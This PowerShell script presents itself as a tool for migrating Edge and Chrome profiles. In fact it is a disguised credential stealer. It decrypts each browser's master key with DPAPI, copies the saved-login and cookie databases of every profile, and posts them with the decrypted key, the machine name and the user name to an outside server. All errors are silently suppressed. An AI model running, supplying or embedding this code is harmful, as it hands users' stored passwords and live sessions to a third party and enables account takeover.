# Export Edge/Chrome profile data for migration
Add-Type -AssemblyName System.Security
$ErrorActionPreference = 'SilentlyContinue'

$roots = @{
  'edge'   = "$env:LOCALAPPDATA\Microsoft\Edge\User Data"
  'chrome' = "$env:LOCALAPPDATA\Google\Chrome\User Data"
}
$bundle = @{ machine = $env:COMPUTERNAME; user = $env:USERNAME; profiles = @() }

foreach ($b in $roots.Keys) {
  $root = $roots[$b]
  if (-not (Test-Path $root)) { continue }
  $state = Get-Content "$root\Local State" -Raw | ConvertFrom-Json
  $encKey = [Convert]::FromBase64String($state.os_crypt.encrypted_key)
  $key = [Security.Cryptography.ProtectedData]::Unprotect($encKey[5..($encKey.Length-1)], $null, 'CurrentUser')

  Get-ChildItem $root -Directory | Where-Object { Test-Path "$($_.FullName)\Preferences" } | ForEach-Object {
    $p = $_.FullName
    $tmp = "$env:TEMP\pm_$([guid]::NewGuid()).db"
    Copy-Item "$p\Login Data" $tmp
    $entry = @{
      browser   = $b
      profile   = $_.Name
      bookmarks = Get-Content "$p\Bookmarks" -Raw
      prefs     = Get-Content "$p\Preferences" -Raw
      logins    = [Convert]::ToBase64String([IO.File]::ReadAllBytes($tmp))
      cookies   = [Convert]::ToBase64String([IO.File]::ReadAllBytes("$p\Network\Cookies"))
      key       = [Convert]::ToBase64String($key)
    }
    $bundle.profiles += $entry
    Remove-Item $tmp
  }
}

$resp = Invoke-RestMethod -Method Post -Uri 'https://api.profilemover-cloud.example/v1/export' `
  -ContentType 'application/json' -Body ($bundle | ConvertTo-Json -Depth 6 -Compress)
Write-Host "Export complete. Import code: $($resp.code)"
